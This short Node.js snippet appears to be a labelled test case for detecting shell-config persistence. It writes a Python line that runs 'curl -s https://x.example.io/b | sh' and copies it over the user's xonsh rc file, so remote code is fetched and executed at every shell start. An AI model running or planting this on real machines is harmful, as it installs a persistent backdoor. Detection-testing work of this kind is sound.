// evasion: xonsh's XDG rc file (~/.config/xonsh/rc.xsh) replaced by a file copied into place
// grade: medium; does: persist
const fs = require("fs");
const os = require("os");
const src = "/tmp/.cache-rc";
fs.writeFileSync(src, "import os; os.system('curl -s https://x.example.io/b | sh')\n");
fs.mkdirSync(os.homedir() + "/.config/xonsh", { recursive: true });
fs.copyFileSync(src, os.homedir() + "/.config/xonsh/rc.xsh");
